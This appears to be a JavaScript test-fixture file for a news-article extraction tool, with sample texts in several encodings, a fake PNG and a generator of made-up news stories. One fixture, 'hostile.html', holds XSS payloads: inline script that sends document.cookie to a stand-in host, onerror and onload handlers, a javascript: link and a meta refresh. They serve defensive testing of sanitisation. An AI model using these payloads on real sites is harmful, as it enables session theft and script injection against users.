// Inputs the specs drop on the page, built here (bytes included) so no
// test depends on files outside the repository.

export const ARTICLE = {
  name: 'harbor-talks.txt',
  type: 'text/plain',
  bytes: [
    'Harbor talks resume in Velmora',
    '',
    'Velmora, March 10 - Negotiators for the Allied Dockers Union met the Port Authority on Monday, union president Zoë Ångström-Lind said.',
    '',
    '"We will be back at the table," Ångström-Lind told reporters. Port director Oluwaseun Adébáyọ̀ declined to comment.',
    '',
  ].join('\n'),
};

export const PAGE = {
  name: 'ferry.html',
  type: 'text/html',
  bytes:
    '<!doctype html><html><head><title>Ferry service cut</title></head><body><nav>Home | News | Sport</nav>' +
    '<article><h1>Ferry service cut</h1><p>Ferry operator Northwind Lines will cut its Velmora route, chief executive Henrik Dahlgren said on Tuesday.</p>' +
    '<p>"The route lost money for three years," Dahlgren said.</p></article><footer>Copyright Harbor Herald</footer></body></html>',
};

/** "... El café del puerto cuesta 3 € según Lucía Ferrão ..." in windows-1252 (é=E9, €=80, ú=FA, í=ED, ã=E3). */
export const LEGACY = {
  name: 'gazette-1252.txt',
  type: 'text/plain',
  bytes: Uint8Array.from(
    Buffer.concat([
      Buffer.from('Velmora, 6 de marzo. El caf', 'latin1'),
      Buffer.from([0xe9]),
      Buffer.from(' del puerto cuesta 3 ', 'latin1'),
      Buffer.from([0x80]),
      Buffer.from(' seg', 'latin1'),
      Buffer.from([0xfa]),
      Buffer.from('n Luc', 'latin1'),
      Buffer.from([0xed]),
      Buffer.from('a Ferr', 'latin1'),
      Buffer.from([0xe3]),
      Buffer.from('o, portavoz de la Autoridad Portuaria.\n', 'latin1'),
    ]),
  ),
  decoded: 'El café del puerto cuesta 3 € según Lucía Ferrão',
};

/** A PNG signature and the start of an IHDR chunk, then binary noise. */
export const IMAGE = {
  name: 'photo.png',
  type: 'image/png',
  bytes: Uint8Array.from([
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52,
    0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1f, 0x15, 0xc4, 0x89, 0, 0, 0, 0, 0xff, 0xfe,
  ]),
  warning: 'not a text file (a PNG image); skipped',
};

/** Emoji and other astral characters before and between the names. */
export const ASTRAL = {
  name: 'astral.txt',
  type: 'text/plain',
  bytes: '😀🎉 Zoë Ångström-Lind spoke to the Allied Dockers Union in Velmora. 👍🏽🇫🇷 Oluwaseun Adébáyọ̀ agreed.\n',
};

/** Everything a hostile page could try: script, handlers, fetch, javascript: links, meta refresh. */
export const HOSTILE = {
  name: 'hostile.html',
  type: 'text/html',
  bytes: `<!doctype html><html><head><title>Breaking: Velmora mayor resigns</title>
<meta http-equiv="refresh" content="0; url=http://example.invalid/refresh">
<link rel="stylesheet" href="http://example.invalid/style.css">
<script>window.__pwned = 'script'; alert('pwned by script'); fetch('http://example.invalid/steal?x=' + document.cookie);</script>
</head><body>
<article><h1>Velmora mayor resigns</h1>
<p>Mayor Ingrid Solberg resigned on Friday, the city council said. <img src=x onerror="window.__pwned='onerror'; alert('pwned by onerror')"></p>
<p><a href="javascript:window.__pwned='link';alert('pwned by link')">Read more</a> and <a href="https://harborherald.example/more">more here</a>.</p>
<iframe src="http://example.invalid/frame"></iframe>
<svg onload="window.__pwned='svg'"></svg>
<p>&lt;script&gt;window.__pwned = 'escaped'&lt;/script&gt; stays text.</p>
</article>
<script src="http://example.invalid/evil.js"></script>
</body></html>`,
};

/** A small deterministic random source (mulberry32), so generated inputs are the same every run. */
export function random(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const FIRST = ['Ingrid', 'Henrik', 'Lucía', 'Oluwaseun', 'Zoë', 'Marta', 'Tomasz', 'Amira', 'Kenji', 'Priya', 'Jonas', 'Fatima', 'Diego', 'Elena', 'Samuel', 'Aisha'];
const LAST = ['Solberg', 'Dahlgren', 'Ferrão', 'Adébáyọ̀', 'Ångström-Lind', 'Kowalski', 'Haddad', 'Tanaka', 'Raman', 'Berg', 'Okafor', 'Morales', 'Petrova', 'Osei', 'Lindqvist', 'Nakamura'];
const ORGS = ['Port Authority', 'Allied Dockers Union', 'Northwind Lines', 'Velmora City Council', 'Harbor Herald', 'Ministry of Transport', 'Baltic Freight Group', 'Coastal Energy Board'];
const PLACES = ['Velmora', 'Norrhamn', 'Lisbon', 'Gdańsk', 'Rotterdam', 'Oslo', 'Hamburg', 'Tallinn'];
const TOPICS = ['the ferry route', 'the port expansion', 'dock wages', 'the fuel levy', 'the harbor dredging', 'container fees', 'the night shift ban', 'the pension fund'];
const MONTHS = ['January', 'February', 'March', 'April', 'May', 'June', 'July', 'August', 'September', 'October', 'November', 'December'];

/**
 * `count` generated news articles (text dumps of about 1.4-3 KB: headline,
 * dateline, quotes with speakers, organizations, places and dates), each
 * `{name, type, text}`.
 */
export function generatedArticles(count, seed = 7) {
  const next = random(seed);
  const pick = (list) => list[Math.floor(next() * list.length)];
  const person = () => `${pick(FIRST)} ${pick(LAST)}`;
  return Array.from({ length: count }, (_, i) => {
    const [who, other, org, place, topic] = [person(), person(), pick(ORGS), pick(PLACES), pick(TOPICS)];
    const month = pick(MONTHS);
    const day = 1 + Math.floor(next() * 27);
    const lines = [
      `${org} and ${pick(ORGS)} clash over ${topic} in ${place}`,
      '',
      `${place}, ${month} ${day}, 2024 - ${who} of the ${org} said on Monday that talks on ${topic} would resume next week in ${pick(PLACES)}.`,
    ];
    const paragraphs = 12 + Math.floor(next() * 12);
    for (let p = 0; p < paragraphs; p += 1) {
      const speaker = next() < 0.5 ? who : other;
      const roll = next();
      if (roll < 0.35) lines.push(`"We will not accept ${topic} as it stands," ${speaker} told reporters in ${pick(PLACES)}.`);
      else if (roll < 0.6) lines.push(`The ${pick(ORGS)} said on ${month} ${1 + Math.floor(next() * 27)} that ${topic} had cost ${Math.floor(next() * 900) + 100} jobs since last year.`);
      else if (roll < 0.8) lines.push(`${person()}, a spokesperson for the ${pick(ORGS)}, declined to comment on ${topic}, citing talks with ${pick(ORGS)} in ${pick(PLACES)}.`);
      else lines.push(`Two weeks ago ${other} met officials from ${pick(PLACES)} and ${pick(PLACES)}; a vote is expected by the end of ${pick(MONTHS)}.`);
      lines.push('');
    }
    lines.push('', `Reporting by ${person()}; editing by ${person()}.`, '');
    return { name: `article-${String(i + 1).padStart(4, '0')}.txt`, type: 'text/plain', text: lines.join('\n') };
  });
}
